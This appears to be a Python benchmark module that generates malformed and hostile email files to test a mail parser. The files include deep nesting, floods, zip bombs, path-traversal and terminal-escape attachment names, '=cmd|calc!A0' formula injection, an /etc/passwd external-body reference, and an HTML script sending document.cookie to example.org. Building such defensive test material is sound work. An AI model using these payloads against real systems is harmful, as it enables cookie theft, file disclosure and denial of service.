"""Mails that nest, flood, lie about their parts, and name their attachments like weapons."""

# ruff: noqa: E501 - raw parts of files stand on one line each

import base64
import bz2
import struct
import sys
import zlib
from collections.abc import Sequence
from functools import partial
from pathlib import Path

from benchmarks.hostile_case import SENTENCE, Cases
from benchmarks.hostile_zip import zipped

CASES = Cases("mail")
add = CASES.add
WORDS = SENTENCE.encode()
_HEAD = b"From: stranger@example.org\r\nTo: audit@example.org\r\nDate: Mon, 6 Feb 2023 10:00:00 +0700\r\n"
PDF = b"%PDF-1.4\n% cut"


def mail(content_type: bytes, body: bytes, *, subject: bytes = b"test", more: bytes = b"") -> bytes:
    """One mail of one part."""
    return (
        _HEAD
        + b"Subject: "
        + subject
        + b"\r\n"
        + more
        + b"MIME-Version: 1.0\r\nContent-Type: "
        + content_type
        + b"\r\n\r\n"
        + body
    )


def part(body: bytes, content_type: bytes = b"text/plain; charset=utf-8", more: bytes = b"") -> bytes:
    """One part of a multipart."""
    return b"Content-Type: " + content_type + b"\r\n" + more + b"\r\n" + body


def multipart(
    parts: Sequence[bytes], kind: bytes = b"mixed", boundary: bytes = b"b1", *, closed: bool = True
) -> tuple[bytes, bytes]:
    """(Content-Type, body) of a multipart."""
    body = b"".join(b"--" + boundary + b"\r\n" + p + b"\r\n" for p in parts) + (
        b"--" + boundary + b"--\r\n" if closed else b""
    )
    return b"multipart/" + kind + b'; boundary="' + boundary + b'"', body


def attached(name: bytes, data: bytes, content_type: bytes = b"application/octet-stream") -> bytes:
    """A part with a file name (a whole `filename...=` parameter) in base64."""
    head = b"Content-Disposition: attachment; " + name + b"\r\nContent-Transfer-Encoding: base64\r\n"
    return part(base64.encodebytes(data), content_type, head)


def with_parts(*parts: bytes, **more: bytes) -> bytes:
    """A mail of these parts."""
    return mail(*multipart(parts), **more)


def named(*names: bytes) -> bytes:
    """A mail whose attachments have these `filename...=` parameters."""
    return with_parts(part(WORDS), *(attached(n, WORDS + b" %d" % i, b"text/plain") for i, n in enumerate(names)))


def _nested(levels: int, kind: bytes = b"mixed") -> bytes:
    body = part(WORDS)
    for n in range(levels):
        body = part(multipart([body], kind, b"n%d" % n)[1], b"multipart/" + kind + b'; boundary="n%d"' % n)
    return _HEAD + b"Subject: deep\r\nMIME-Version: 1.0\r\n" + body


def _letters_in_letters(levels: int) -> bytes:
    body = mail(b"text/plain; charset=utf-8", WORDS)
    for _ in range(levels):
        body = mail(b"message/rfc822", body)
    return body


def _mbox(count: int) -> bytes:
    one = b"From a@example.org Mon Feb  6 10:00:00 2023\r\n" + mail(b"text/plain; charset=utf-8", WORDS + b"\r\n\r\n")
    return one * count


# --- depth and number
add("multiparts-60-deep.eml", "rejected/too_deep", lambda: _nested(60))
add("multiparts-2000-deep.eml", "rejected/too_deep", lambda: _nested(2000))
add("alternatives-40-deep.eml", "opened", lambda: _nested(40, b"alternative"), rest="read")
add(
    "letters-in-letters-30.eml",
    "opened",
    lambda: _letters_in_letters(30),
    rest="opened rejected/too_deep read",
    members=10,
)
add(
    "letters-in-letters-500.eml",
    "opened",
    lambda: _letters_in_letters(500),
    rest="opened rejected/too_deep read",
    members=10,
)
add("ten-thousand-and-one-parts.eml", "rejected/too_many", lambda: with_parts(*[b"\r\nx"] * 10_001))
add("thousand-attachments.eml", "opened", lambda: with_parts(*[attached(b"filename=a.txt", WORDS, b"text/plain")] * 1000),
    rest="read", members=1000, slow=True)  # fmt: skip
add("attachments-and-bombs.eml", "opened",
    lambda: with_parts(part(WORDS), *[attached(b"filename=b.zip", zipped({"z": bytes(8 << 20)}))] * 20),
    rest="opened read rejected/bomb rejected/too_many")  # fmt: skip
add("mailbox-of-500.mbox", "opened", lambda: _mbox(500), rest="opened read", slow=True)
add("mailbox-in-a-mailbox.mbox", "opened",
    lambda: b"From a@example.org Mon Feb  6 10:00:00 2023\r\n" + with_parts(attached(b"filename=in.mbox", _mbox(3))) + b"\r\n",
    rest="opened read")  # fmt: skip

# --- boundaries
add("boundary-never-closed.eml", "partly_read/partial", lambda: mail(*multipart([part(WORDS), part(WORDS)], closed=False)),
    rest="read", told="MAIL-CUT")  # fmt: skip
add("boundary-not-there.eml", "partly_read/partial", lambda: mail(b"multipart/mixed; boundary=zzz", part(WORDS)), rest="read",
    told="MAIL-NO-BOUNDARY")  # fmt: skip
add("boundary-not-named.eml", "partly_read/partial", lambda: mail(b"multipart/mixed", multipart([part(WORDS)])[1]), rest="read",
    told="MAIL-NO-BOUNDARY")  # fmt: skip
add(
    "boundary-empty.eml",
    "partly_read/partial",
    lambda: mail(b'multipart/mixed; boundary=""', multipart([part(WORDS)])[1]),
    rest="read",
)
add("boundary-of-10-kilobytes.eml", "opened partly_read/partial",
    lambda: mail(*multipart([part(WORDS)], boundary=b"x" * 10_000)), rest="read")  # fmt: skip
add(
    "boundary-of-signs.eml",
    "opened",
    lambda: mail(*multipart([part(WORDS)], boundary=b"(?:.*)+$[a-z]\\d{1,9}")),
    rest="read",
)
add("boundary-named-twice.eml", "opened partly_read/partial",
    lambda: mail(b'multipart/mixed; boundary="b1"; boundary="b2"', multipart([part(WORDS)])[1]), rest="read")  # fmt: skip
add("boundary-almost-100000-times.eml", "partly_read/partial opened", lambda: mail(*multipart([part(b"--b1x\r\n" * 100_000)], closed=False)),
    rest="read", slow=True)  # fmt: skip
add("boundary-of-its-child.eml", "opened partly_read/partial",
    lambda: mail(*multipart([part(multipart([part(WORDS)])[1], b'multipart/mixed; boundary="b1"')])), rest="read unreadable/empty")  # fmt: skip
add("two-content-types.eml", "opened partly_read/partial",
    lambda: mail(b"text/plain; charset=utf-8", WORDS, more=b"Content-Type: multipart/mixed; boundary=x\r\n"),
    rest="read")  # fmt: skip

# --- headers
add(
    "header-flood.eml",
    "partly_read/partial",
    lambda: mail(b"text/plain", WORDS, more=b"X-A: b\r\n" * 20_000),
    told="MAIL-HEADER-CUT",
)
add("received-flood.eml", "opened", lambda: b"Received: from a by b; Mon, 6 Feb 2023 10:00:00 +0700\r\n" * 3000 + mail(b"text/plain", WORDS),
    rest="read")  # fmt: skip
add("subject-of-2-megabytes.eml", "opened", lambda: mail(b"text/plain", WORDS, subject=b"a" * (2 << 20)), rest="read",
    told="MAIL-HEADER-CUT")  # fmt: skip
add("folded-100000-times.eml", "opened", lambda: mail(b"text/plain", WORDS, subject=b"a" + b"\r\n x" * 100_000),
    rest="read")  # fmt: skip
add("to-100000-people.eml", "opened",
    lambda: mail(b"text/plain", WORDS, more=b"Cc: " + b"a@b.example, " * 100_000 + b"z@b.example\r\n"), rest="read")  # fmt: skip
add("comments-in-comments.eml", "opened partly_read/partial",
    lambda: mail(b"text/plain", WORDS, more=b"Sender: " + b"(" * 50_000 + b")" * 50_000 + b" a@b.example\r\n"), rest="read")  # fmt: skip
add("quotes-never-closed.eml", "opened partly_read/partial",
    lambda: mail(b'text/plain; charset="utf-8; name="' + b'\\"' * 20_000, WORDS), rest="read rejected/unknown_type")  # fmt: skip
add(
    "parameters-10000.eml",
    "opened partly_read/partial",
    lambda: mail(b"text/plain" + b"; a=b" * 10_000, WORDS),
    rest="read",
)
add("encoded-words-20000.eml", "partly_read/partial opened", lambda: mail(b"text/plain", WORDS, subject=b"=?utf-8?q?a?= " * 20_000),
    rest="read")  # fmt: skip
add("encoded-word-that-breaks-lines.eml", "opened",
    lambda: mail(b"text/plain", WORDS, subject=b"=?utf-8?q?x=0D=0AFrom:_b=40example.org=0D=0A=0D=0A?="), rest="read")  # fmt: skip
add("date-of-the-year-99999.eml", "opened",
    lambda: mail(b"text/plain", WORDS).replace(b"6 Feb 2023 10:00:00 +0700", b"99 Zzz 99999 99:99:99 +9999"), rest="read",
    told="TIME-HEADER-UNCLEAR")  # fmt: skip
add("zero-bytes.eml", "opened partly_read/partial", lambda: mail(b"text/plain\0; charset=\0utf-8", WORDS, subject=b"a\0b", more=b"X: \0\0\r\n"),
    rest="read rejected/unknown_type")  # fmt: skip
add(
    "only-carriage-returns.eml",
    "opened read rejected/unknown_type",
    lambda: mail(b"text/plain", WORDS).replace(b"\r\n", b"\r"),
)
add("headers-alone.eml", "opened", lambda: _HEAD + b"Subject: x\r\n")

# --- character sets and encodings
for _charset in ("unicode_escape", "punycode", "idna", "rot13", "zlib", "bz2", "hex", "uu", "utf-7", "../../etc/passwd", "x" * 5000,
                 "utf-16", "undefined", "mbcs", "raw_unicode_escape", "string\\0escape"):  # fmt: skip
    _shown = "".join(c if c.isalnum() else "_" for c in _charset[:20])
    add(
        f"charset-{_shown}.eml",
        "opened",
        lambda c=_charset: mail(b"text/plain; charset=" + c.encode(), WORDS),
        rest="read",
    )
add("charset-that-unpacks.eml", "opened",
    lambda: mail(b"text/plain; charset=bz2", bz2.compress(bytes(24 << 20)), subject=b"=?zlib?b?" + base64.b64encode(zlib.compress(bytes(9999))) + b"?="),
    rest="read rejected/unknown_type unreadable/empty unreadable/unknown_type")  # fmt: skip
add("encoding-not-known.eml", "opened", lambda: mail(b"text/plain; charset=utf-8", WORDS, more=b"Content-Transfer-Encoding: x-uuencode\r\n"),
    rest="read")  # fmt: skip
add("base64-damaged.eml", "opened", lambda: with_parts(attached(b"filename=a.txt", WORDS).replace(b"4LmA", b"4*mA")), told="MAIL-PART-DAMAGED",
    rest="read unreadable/unknown_type rejected/unknown_type")  # fmt: skip
add("base64-of-blanks.eml", "opened", lambda: with_parts(part(b" \r\n" * 400_000, more=b"Content-Transfer-Encoding: base64\r\n")),
    rest="unreadable/empty")  # fmt: skip
add("quoted-printable-of-equals.eml", "opened", lambda: mail(b"text/plain", b"=" * 300_000, more=b"Content-Transfer-Encoding: quoted-printable\r\n"),
    rest="read unreadable/empty")  # fmt: skip

# --- names of attachments
add("names-that-climb.eml", "opened",
    lambda: named(b'filename="../../../etc/passwd"', b'filename="C:\\\\Windows\\\\x.txt"', b"filename*=utf-8''..%2F..%2Fx", b"filename=/"),
    rest="read", members=5)  # fmt: skip
add("names-of-devices.eml", "opened", lambda: named(b"filename=CON", b"filename=NUL.pdf", b"filename=aux.", b'filename="a:b"'),
    rest="read", members=5)  # fmt: skip
add("names-that-steer-a-terminal.eml", "opened",
    lambda: named(b"filename*=utf-8''a%1B%5B2J%1B%5D0;x%07.pdf", b"filename*=utf-8''a%0Ab%0D.txt", "filename=\"\u202efdp.exe\"".encode(),
                  b"filename*=utf-8''a%00.pdf"), rest="read", members=5)  # fmt: skip
add("names-of-markup.eml", "opened",
    lambda: named(b'filename="<script>alert(1)</script>.txt"', b'filename="=cmd|calc!A0.txt"', b'filename="a > b.txt"', b"filename=body"),
    rest="read", members=5)  # fmt: skip
add(
    "name-of-100-kilobytes.eml", "opened", lambda: named(b"filename=" + b"n" * 50_000 + b".txt"), rest="read", members=2
)
add("names-one-and-the-same.eml", "opened", lambda: named(b"filename=a.txt", b"filename=A.txt", b"filename=a.txt", b'filename="a.txt "'),
    rest="read", members=5)  # fmt: skip
add("rfc2231-gaps-and-giants.eml", "opened",
    lambda: named(b"filename*0=a; filename*2=c; filename*1*=%41", b"filename*999=x; filename*99999999=y", b"filename*0*=zz'%FF%FE; filename*1*=%"),
    rest="read", members=4)  # fmt: skip
add(
    "rfc2231-900-pieces.eml",
    "opened",
    lambda: named(b"; ".join(b"filename*%d*=%%E0%%B8%%81" % n for n in range(900))),
    rest="read",
    members=2,
)

# --- lies about what a part is
add("type-says-otherwise.eml", "opened",
    lambda: with_parts(attached(b"filename=a.png", WORDS, b"image/png"), attached(b"filename=b.pdf", b"MZ\x90\0" + bytes(90), b"application/pdf"),
                       attached(b"filename=c.txt", zipped({"in.txt": WORDS}), b"text/plain")),
    inner={"a.png": "read", "b.pdf": "rejected/unsupported_type", "c.txt": "opened", "in.txt": "read"})  # fmt: skip
add("html-that-runs.eml", "opened",
    lambda: mail(b"text/html; charset=utf-8", b"<p>" + WORDS + b"<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"),
    rest="read")  # fmt: skip
add("winmail.eml", "opened", lambda: with_parts(part(WORDS), attached(b"filename=winmail.dat", b"\x78\x9f\x3e\x22" + bytes(80), b"application/ms-tnef")),
    inner={"winmail.dat": "rejected/unsupported_type unreadable/broken unreadable/empty opened partly_read/partial"})  # fmt: skip
add("pgp.eml", "opened",
    lambda: mail(*multipart([part(b"Version: 1", b"application/pgp-encrypted"),
                             part(b"-----BEGIN PGP MESSAGE-----\r\n\r\nxx\r\n-----END PGP MESSAGE-----", b"application/octet-stream")], b"encrypted")),
    rest="unreadable/encrypted read ignored/system_file")  # fmt: skip
add("enveloped.eml", "opened",
    lambda: mail(b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
                 base64.encodebytes(bytes.fromhex("308006092a864886f70d010703a080") + bytes(60)), more=b"Content-Transfer-Encoding: base64\r\n"),
    rest="unreadable/encrypted")  # fmt: skip
add("message-elsewhere.eml", "opened",
    lambda: with_parts(part(b"", b'message/external-body; access-type=URL; URL="file:///etc/passwd"'), part(WORDS)),
    rest="read unreadable/empty rejected/too_deep opened")  # fmt: skip
add("piece-3-of-9.eml", "opened", lambda: mail(b'message/partial; id="x"; number=3; total=9', WORDS), rest="read")
add("attached-mail-that-is-none.eml", "opened", lambda: with_parts(part(b"\xff\xfe\0\0" * 40, b"message/rfc822")),
    rest="opened read rejected/unknown_type unreadable/unknown_type")  # fmt: skip


# --- Outlook's own: .msg, and winmail.dat


def _outlook(
    levels: int = 0, *names: str, packing: str = "msg", promised: int | None = None, data: bytes = WORDS
) -> bytes:
    """A message with these attachments, inside as many others."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))
    from msg_by_hand import Attachment, Message, msg, winmail

    texts = {0x0037: "test", 0x1000: SENTENCE}
    message = Message(texts, [Attachment(n, data) for n in names], promised)
    for _ in range(levels):
        message = Message(texts, [Attachment("inner", message=message)])
    made: bytes = msg(message) if packing == "msg" else winmail(message)
    return made


def _with_winmail(data: bytes) -> bytes:
    return with_parts(part(WORDS), attached(b"filename=winmail.dat", data, b"application/ms-tnef"))


_TORN = "rejected/unsupported_type unreadable/broken unreadable/empty opened partly_read/partial"
_NO_MSG = " rejected/unsupported_type"
_CLIMBS = ("..\\..\\x.txt", "/etc/passwd", "C:\\Windows\\y.txt", "CON", "a\u202efdp.exe", "a\n b.txt")
add("msg-in-msg-15.msg", "opened" + _NO_MSG, partial(_outlook, 15), rest="opened read rejected/too_deep", members=20)
add(
    "msg-names-that-climb.msg",
    "opened partly_read/partial" + _NO_MSG,
    partial(_outlook, 0, *_CLIMBS),
    rest="read",
    members=7,
)
add("msg-that-promises-900-attachments.msg", "opened partly_read/partial unreadable/broken" + _NO_MSG,
    partial(_outlook, 0, "a.txt", promised=900), rest="read")  # fmt: skip
add("msg-that-promises-4-thousand-million.msg", "opened partly_read/partial unreadable/broken" + _NO_MSG,
    partial(_outlook, 0, "a.txt", promised=0xFFFFFFFF), rest="read")  # fmt: skip
add("msg-of-900-attachments.msg", "opened partly_read/partial unreadable/broken" + _NO_MSG,
    lambda: _outlook(0, *(f"{n}.txt" for n in range(900))), rest="read", slow=True)  # fmt: skip
add("msg-with-a-bomb.msg", "opened" + _NO_MSG, lambda: _outlook(0, "a.zip", data=zipped({"z": bytes(8 << 20)})),
    rest="opened read rejected/bomb")  # fmt: skip
add("msg-cut.msg", "unreadable/broken" + _NO_MSG, lambda: _outlook(0, "a.txt", data=WORDS * 200)[:-2000])
add("msg-of-garbage.msg", _TORN, lambda: _outlook(0, "a.txt")[:512] + bytes(range(256)) * 20)
add("winmail-in-winmail-15.eml", "opened", lambda: _with_winmail(_outlook(15, packing="winmail")),
    rest="opened partly_read/partial read rejected/too_deep rejected/too_many")  # fmt: skip
add("winmail-names-that-climb.eml", "opened", lambda: _with_winmail(_outlook(0, *_CLIMBS, packing="winmail")),
    rest="opened partly_read/partial read")  # fmt: skip
add("winmail-length-of-4-gigabytes.eml", "opened",
    lambda: _with_winmail(_outlook(0, packing="winmail") + struct.pack("<BII", 2, 0x6800F, 0xFFFFFFFF) + WORDS),
    inner={"winmail.dat": _TORN}, rest="read")  # fmt: skip
add("winmail-torn.eml", "opened", lambda: _with_winmail(_outlook(0, "a.txt", packing="winmail")[:-30]),
    inner={"winmail.dat": _TORN}, rest="read")  # fmt: skip
add("winmail-in-a-zip-in-a-msg.msg", "opened" + _NO_MSG,
    lambda: _outlook(0, "a.zip", data=zipped({"winmail.dat": _outlook(1, "b.txt", packing="winmail")})),
    rest="opened partly_read/partial read")  # fmt: skip
